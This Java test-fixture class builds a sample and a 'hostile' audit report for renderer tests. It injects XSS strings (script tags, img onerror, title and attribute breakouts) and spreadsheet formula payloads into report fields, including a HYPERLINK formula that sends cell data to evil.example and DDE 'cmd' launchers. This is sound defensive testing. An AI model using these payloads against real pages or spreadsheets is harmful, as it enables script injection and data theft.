package cn.zwgk.audit.report;

import cn.zwgk.audit.report.AuditReport.AnnualTables;
import cn.zwgk.audit.report.AuditReport.Finding;
import cn.zwgk.audit.report.AuditReport.InputFile;
import cn.zwgk.audit.report.AuditReport.Manifest;
import cn.zwgk.audit.report.AuditReport.RectificationResult;
import cn.zwgk.audit.report.AuditReport.TaskResult;
import cn.zwgk.audit.report.AuditReport.UnitResult;
import cn.zwgk.audit.report.AuditReport.UnplacedRecord;
import cn.zwgk.audit.report.AuditReport.WaiverResult;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Reports the renderer tests use. {@code sample-2020} is a frozen report.json of the bundled sample
 * data (frozen so that rule edits do not move the golden files); {@code hostile} is the same report
 * with evidence-borne text an attacker would choose: markup that would set {@code document.title}
 * if it ran, an attribute breakout, and spreadsheet formulas, in explanations, units, findings,
 * waivers, rectifications and records the tables could not count.
 */
final class Fixtures {
    static final String SAMPLE = "sample-2020";
    static final String HOSTILE = "hostile";

    static final String SCRIPT = "<script>document.title='PWNED-script';alert(1)</script>";
    static final String IMG = "<img src=x onerror=\"document.title='PWNED-img';alert(1)\">";
    static final String TITLE_BREAKOUT = "</title><script>document.title='PWNED-title'</script>";
    static final String ATTRIBUTE_BREAKOUT =
            "\" autofocus onfocus=\"document.title='PWNED-attr'\" x=\"";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";

    /** Text a spreadsheet would take for a formula, one per dangerous first character. */
    static final List<String> FORMULAS =
            List.of(
                    HYPERLINK,
                    "+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "\t=1+1",
                    "\r=1+1");

    /**
     * Every hostile text the hostile report carries, each of which must survive as visible text.
     */
    static final List<String> PAYLOADS =
            List.of(SCRIPT, IMG, TITLE_BREAKOUT, ATTRIBUTE_BREAKOUT, HYPERLINK);

    /** The unit renamed to carry {@link #ATTRIBUTE_BREAKOUT}, so it lands in HTML attributes. */
    static final String RENAMED_UNIT = "人才开发科";

    private Fixtures() {}

    static Map<String, AuditReport> all() {
        Map<String, AuditReport> all = new LinkedHashMap<>();
        all.put(SAMPLE, sample());
        all.put(HOSTILE, hostile());
        return all;
    }

    static AuditReport sample() {
        try {
            return ReportReader.read(
                    Path.of(Fixtures.class.getResource("fixtures/" + SAMPLE + ".json").toURI()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    static AuditReport hostile() {
        String renamed = RENAMED_UNIT + ATTRIBUTE_BREAKOUT;
        return withTexts(
                sample(),
                new Texts() {
                    @Override
                    public String organisation(String organisation) {
                        return organisation + TITLE_BREAKOUT;
                    }

                    @Override
                    public String catalogTitle(String title) {
                        return title + IMG;
                    }

                    @Override
                    public String unit(String name) {
                        return RENAMED_UNIT.equals(name) ? renamed : name;
                    }

                    @Override
                    public String taskExplanation(TaskResult t) {
                        return switch (t.number()) {
                            case 1 -> SCRIPT + ATTRIBUTE_BREAKOUT + t.explanation();
                            case 2 -> IMG + "\n" + t.explanation();
                            case 3 -> HYPERLINK + t.explanation();
                            default -> t.explanation();
                        };
                    }

                    @Override
                    public List<String> taskEvidence(TaskResult t) {
                        return t.number() == 3
                                ? prepend(HYPERLINK, t.evidenceIds())
                                : t.evidenceIds();
                    }

                    /** The first unit of the first tasks: a formula each, then markup. */
                    @Override
                    public String unitExplanation(TaskResult t, int index, UnitResult u) {
                        if (index != 0) {
                            return u.explanation();
                        }
                        int n = t.number();
                        return n <= FORMULAS.size()
                                ? FORMULAS.get(n - 1)
                                : n == FORMULAS.size() + 1
                                        ? SCRIPT + u.explanation()
                                        : n == FORMULAS.size() + 2
                                                ? IMG + "\n" + u.explanation()
                                                : u.explanation();
                    }

                    @Override
                    public List<String> unitEvidence(TaskResult t, int index, UnitResult u) {
                        return index == 0 && t.number() <= FORMULAS.size()
                                ? prepend(HYPERLINK, u.evidenceIds())
                                : u.evidenceIds();
                    }

                    @Override
                    public String findingMessage(TaskResult t, int index, Finding f) {
                        return f.message() + IMG;
                    }

                    @Override
                    public List<String> findingEvidence(TaskResult t, int index, Finding f) {
                        return prepend(SCRIPT, f.evidenceIds());
                    }

                    @Override
                    public RectificationResult rectification(RectificationResult c) {
                        return new RectificationResult(
                                c.id(),
                                c.unit() == null ? null : unit(c.unit()),
                                SCRIPT + c.problem(),
                                HYPERLINK + c.measure(),
                                IMG + c.responsibleUnit(),
                                c.targetDate());
                    }

                    @Override
                    public List<WaiverResult> waivers(AuditReport r) {
                        return List.of(
                                new WaiverResult(
                                        SCRIPT,
                                        24,
                                        renamed,
                                        r.asOf(),
                                        r.asOf(),
                                        List.of(),
                                        SCRIPT,
                                        IMG,
                                        FORMULAS.get(1),
                                        FORMULAS.get(0),
                                        r.asOf()));
                    }

                    @Override
                    public List<UnplacedRecord> unplaced(List<UnplacedRecord> records) {
                        return List.of(new UnplacedRecord(SCRIPT, IMG));
                    }
                });
    }

    /**
     * The evidence-borne texts of a report, each given the report's value and where it stands and
     * returning the text to put there; the defaults keep the value. {@link #withTexts} rebuilds the
     * report around them, so that a test names only the texts it changes.
     */
    interface Texts {
        default String organisation(String organisation) {
            return organisation;
        }

        default String catalogTitle(String title) {
            return title;
        }

        /** A unit's name wherever it stands: the units, a task's units, findings. */
        default String unit(String name) {
            return name;
        }

        default String taskExplanation(TaskResult t) {
            return t.explanation();
        }

        default List<String> taskEvidence(TaskResult t) {
            return t.evidenceIds();
        }

        /** {@code index}: the unit's place among its task's units. */
        default String unitExplanation(TaskResult t, int index, UnitResult u) {
            return u.explanation();
        }

        default List<String> unitEvidence(TaskResult t, int index, UnitResult u) {
            return u.evidenceIds();
        }

        /** {@code index}: the finding's place among its task's findings. */
        default String findingMessage(TaskResult t, int index, Finding f) {
            return f.message();
        }

        default List<String> findingEvidence(TaskResult t, int index, Finding f) {
            return f.evidenceIds();
        }

        default RectificationResult rectification(RectificationResult c) {
            return c;
        }

        default List<WaiverResult> waivers(AuditReport r) {
            return r.waivers();
        }

        /** The evidence files of the manifest. */
        default List<InputFile> evidenceFiles(List<InputFile> files) {
            return files;
        }

        /** The application records the annual tables could not count. */
        default List<UnplacedRecord> unplaced(List<UnplacedRecord> records) {
            return records;
        }
    }

    /** {@code r} with the evidence-borne texts {@code texts} gives. */
    static AuditReport withTexts(AuditReport r, Texts texts) {
        List<TaskResult> tasks = new ArrayList<>();
        for (TaskResult t : r.tasks()) {
            List<UnitResult> units = new ArrayList<>();
            for (int i = 0; i < t.units().size(); i++) {
                UnitResult u = t.units().get(i);
                units.add(
                        new UnitResult(
                                texts.unit(u.unit()),
                                u.state(),
                                texts.unitExplanation(t, i, u),
                                texts.unitEvidence(t, i, u),
                                u.late()));
            }
            List<Finding> findings = new ArrayList<>();
            for (int i = 0; i < t.findings().size(); i++) {
                Finding f = t.findings().get(i);
                findings.add(
                        new Finding(
                                f.rule(),
                                f.unit() == null ? null : texts.unit(f.unit()),
                                f.outcome(),
                                texts.findingMessage(t, i, f),
                                texts.findingEvidence(t, i, f)));
            }
            tasks.add(
                    new TaskResult(
                            t.number(),
                            t.content(),
                            t.leadUnits(),
                            t.responsibleUnits(),
                            t.deadlineText(),
                            t.dueDate(),
                            t.deadline(),
                            t.state(),
                            texts.taskExplanation(t),
                            texts.taskEvidence(t),
                            units,
                            findings,
                            t.late(),
                            t.rectifications().stream().map(texts::rectification).toList()));
        }
        Manifest m = r.manifest();
        AnnualTables s = r.statistics();
        return new AuditReport(
                r.schema(),
                r.tool(),
                texts.organisation(r.organisation()),
                r.auditYear(),
                r.asOf(),
                texts.catalogTitle(r.catalogTitle()),
                r.units().stream().map(texts::unit).toList(),
                r.summary(),
                tasks,
                new Manifest(
                        m.rules(),
                        texts.evidenceFiles(m.evidence()),
                        m.recordsByKind(),
                        m.recordsAfterAsOf(),
                        m.uncitedByKind()),
                texts.waivers(r),
                s == null
                        ? null
                        : new AnnualTables(
                                s.reportYear(),
                                s.layout(),
                                s.basis(),
                                s.proactive(),
                                s.applications(),
                                texts.unplaced(s.unplacedApplications()),
                                s.reviews(),
                                s.overview()));
    }

    /** {@code first}, then {@code rest}: evidence ids with one chosen id in front. */
    static List<String> prepend(String first, List<String> rest) {
        List<String> all = new ArrayList<>();
        all.add(first);
        all.addAll(rest);
        return all;
    }
}
